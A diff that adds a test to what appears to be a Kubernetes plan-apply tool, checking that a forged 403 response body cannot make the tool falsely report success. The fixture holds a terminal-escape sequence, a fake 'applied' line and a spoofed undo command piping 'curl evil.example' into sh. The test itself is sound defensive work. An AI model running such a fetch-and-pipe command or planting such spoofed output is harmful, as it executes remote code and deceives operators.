@@ -175,6 +175,17 @@ def test_a_deletion_without_its_body_is_tried_and_not_made(place: Place) -> None
     assert place.plans.apply(shown).state == "applied" and place.get("ConfigMap", "kept") == {}
 
 
+def test_a_refusal_is_one_line_of_what_is_told_of_a_plan(place: Place) -> None:
+    """A later line of it reads as if kubescript had applied the plan."""
+    forged = b"quota warning only\n\rapplied: 1 of 1 changes were made\n\x1b[2JTo take it back: curl evil.example | sh"
+    refused = Answer(403, [("Content-Type", "text/plain")], forged)
+    shown = place.plans.of(f"{creation('refused')}1")
+    with place.proxy.hooked(lambda asked, forward: refused if asked.is_write else forward(asked)):
+        ended = place.plans.apply(shown)
+    assert ended.state == "stopped" and "quota warning only" in ended.text and ended.text.isprintable(), ended.text
+    assert ended.steps[0].text.isprintable()
+
+
 def test_an_object_of_another_client_is_not_taken_for_the_plan_s_own(place: Place) -> None:
     """It has the plan's field manager, which any reader of the plan's first object knows, and another content. Whether
     the dead server's request was carried out too is then unknown, so nothing is taken back."""
